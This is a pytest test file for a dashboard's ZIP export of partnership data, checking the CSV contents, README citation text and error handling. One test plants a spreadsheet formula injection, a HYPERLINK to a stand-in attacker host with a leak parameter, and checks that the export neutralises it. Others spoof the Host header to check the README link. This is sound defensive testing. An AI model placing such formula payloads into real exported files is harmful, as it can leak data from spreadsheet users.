"""The ZIP download: the view's CSV, byte for byte, plus a README that says what it is and how to cite it."""

import csv
import datetime
import io
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest

import app as dashboard
from ascn import columns
from ascn.query import CONTRACT_COLUMNS, default_query
from routes.export import sources

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def client():
    return dashboard.server.test_client()


def open_zip(response) -> zipfile.ZipFile:
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert archive.testzip() is None  # every member's CRC checks out
    return archive


def test_zip_opens_holds_both_files_and_is_named_like_the_csv(client):
    response = client.get("/api/partnerships.zip?partner=JPN")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/zip"
    assert 'filename="ascn-partnerships_partner-JPN.zip"' in response.headers["Content-Disposition"]
    assert open_zip(response).namelist() == ["partnerships.csv", "README.txt"]
    plain = client.get("/api/partnerships.zip")
    assert 'filename="ascn-partnerships.zip"' in plain.headers["Content-Disposition"]


@pytest.mark.parametrize("query", [
    "",
    "partner=JPN",
    "focus_area=built-infrastructure&unknown_year=exclude",
    "member_state=KHM&year_from=2016&year_to=2019",
    "city=singapore,yangon&partner=chn",
    "unknown_year=only",
    "partner=FRA&unknown_year=only",  # no rows: the header alone
])
def test_csv_in_the_zip_is_exactly_the_csv_endpoints(client, query):
    from_zip = open_zip(client.get(f"/api/partnerships.zip?{query}")).read("partnerships.csv")
    assert from_zip == client.get(f"/api/partnerships.csv?{query}").data


@pytest.fixture
def public_address(monkeypatch):
    """Configure ASCN_PUBLIC_URL for one test (the process reads it once: the cache is cleared around the test)."""
    from routes import site

    def configure(value: str) -> None:
        monkeypatch.setenv(site.ENV, value)
        site.public_url.cache_clear()

    yield configure
    site.public_url.cache_clear()


def test_readme_names_the_view_filters_rows_columns_sources_citation_licence_and_time(client, public_address):
    public_address("https://ascn.example.org")
    before = datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)
    # The link names the configured address, never the Host the request claims.
    response = client.get("/api/partnerships.zip?focus_area=built-infrastructure&partner=JPN", base_url="https://evil.example")
    after = datetime.datetime.now(datetime.timezone.utc)
    readme = open_zip(response).read("README.txt").decode("utf-8")
    flat = " ".join(readme.split())  # the README wraps long lines
    version = default_query().dataset.version

    url = "https://ascn.example.org/?partner=JPN&focus_area=built-infrastructure"
    assert f"View (link): {url}" in flat
    assert "Filters: Partner: Japan; Focus: Built infrastructure" in flat
    assert f"Rows: 3 of the {len(default_query().dataset.partnerships)} partnerships in the record" in flat and "evil" not in flat  # rows 7, 15 and 30
    assert f"Data version: {version} (edition of {columns.DATA_DATE})" in flat
    for column, meaning in columns.PARTNERSHIP_COLUMNS.items():
        assert f"{column} {' '.join(meaning.split())}" in flat
    assert f"Main source: {columns.ISEAS_PAPER} (Table 2, rows 7, 15)." in flat
    # The other sources are the ones these rows name: row 7's year, not row 1's.
    assert "first platform meeting 27 February 2019: MLIT white paper (2019), column on the Japan-Cambodia platform [partnership 7]" in flat
    assert "Yachiyo Engineering news release, November 2022 [partnership 30]" in flat
    assert "signed 12 July 2018 in Singapore" not in flat
    assert columns.LICENCE == "CC BY 4.0" and " ".join(columns.LICENCE_STATEMENT.split()) in flat
    assert "Natural Earth" in flat and "public domain" in flat

    stamp = flat.split("Exported: ", 1)[1].split(" ", 1)[0]
    exported = datetime.datetime.strptime(stamp, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=datetime.timezone.utc)
    assert before <= exported <= after
    assert " ".join(columns.citation(version, url, stamp).split()) in flat
    assert columns.citation(version, url, stamp).startswith(
        f"ASEAN Smart Cities Network partnerships dashboard, data version {version}, exported {stamp}, {url}. Based on Martinus, M. (2020), ")


def test_readme_of_the_whole_record_says_no_filters(client, public_address):
    public_address("http://127.0.0.1:8050")
    readme = open_zip(client.get("/api/partnerships.zip", base_url="http://evil.example")).read("README.txt").decode("utf-8")
    assert "View (link):   http://127.0.0.1:8050/\n" in readme and "evil" not in readme
    assert "Filters:       none (the whole record)" in readme
    total = len(default_query().dataset.partnerships)
    assert f"Rows:          {total} of the {total} partnerships" in readme


@pytest.mark.parametrize("query", ["partner=XXX", "colour=red", "year_from=abc", "year_from=2019&year_to=2016"])
def test_bad_parameters_answer_the_same_400_as_the_csv(client, query):
    response = client.get(f"/api/partnerships.zip?{query}")
    assert response.status_code == 400 and response.headers["Content-Type"] == "application/json"
    assert response.get_json() == client.get(f"/api/partnerships.csv?{query}").get_json()


def test_sources_are_deduplicated_and_the_paper_is_listed_once():
    rows = pd.DataFrame([
        [1, "table-2", "a", (), (), (), "civic-social", 2018, "Report X, 2018", "", columns.ISEAS_PAPER + ", Table 2, row 1", "", ""],
        [2, "table-2", "b", (), (), (), "civic-social", 2018, "Report X, 2018", "", columns.ISEAS_PAPER + ", Table 2, row 2", "", ""],
        [3, "later-reporting", "c", (), (), (), "civic-social", None, "", "", "A newspaper, 2019", "", ""],
    ], columns=CONTRACT_COLUMNS)
    paper, others = sources(rows)
    assert paper == {"2": ["1", "2"]}
    assert others == {"Report X, 2018": [1, 2], "A newspaper, 2019": [3]}


# Run in a child process: the app loads its dataset once per process, and this test needs a record
# whose title is a formula. The child serves the real route on a copy of data/ with that one change.
CHILD = """
import sys
from pathlib import Path
import app
client = app.server.test_client()
out = Path(sys.argv[1])
for ext in ("zip", "csv"):
    response = client.get("/api/partnerships." + ext + "?city=singapore")
    assert response.status_code == 200, response.data
    (out / ("got." + ext)).write_bytes(response.data)
"""


def test_a_title_that_is_a_formula_stays_inert_in_the_zips_csv(tmp_path):
    data = tmp_path / "data"
    shutil.copytree(ROOT / "data", data)
    with open(data / "partnerships.csv", encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    formula = '=HYPERLINK("https://evil.example/?leak=1","Click")'
    table[0]["title"] = formula  # partnership 1, in Singapore
    table[0]["notes"] = "@SUM(1+1)"
    with open(data / "partnerships.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(table[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(table)

    env = {**os.environ, "ASCN_DATA_DIR": str(data)}
    done = subprocess.run([sys.executable, "-c", CHILD, str(tmp_path)], cwd=ROOT, env=env, capture_output=True, text=True, timeout=180)
    assert done.returncode == 0, done.stderr[-3000:]

    archive = zipfile.ZipFile(tmp_path / "got.zip")
    from_zip = archive.read("partnerships.csv")
    assert from_zip == (tmp_path / "got.csv").read_bytes()
    rows = {r["partnership_id"]: r for r in csv.DictReader(io.StringIO(from_zip.decode("utf-8")))}
    assert rows["1"]["title"] == "'" + formula
    assert rows["1"]["notes"] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())


def test_readme_says_the_data_version_and_what_changed(client):
    from ascn.changelog import read_changelog

    readme = open_zip(client.get("/api/partnerships.zip?provenance=later-reporting")).read("README.txt").decode("utf-8")
    edition = read_changelog(default_query().dataset.data_dir)[0]
    assert f"What changed in this edition ({edition.date}: {edition.title})" in readme
    assert "Filters:       Source: Added from later reporting" in readme  # the provenance filter, in words
    flat = " ".join(readme.split())
    assert " ".join(edition.items[0].split())[:60] in flat
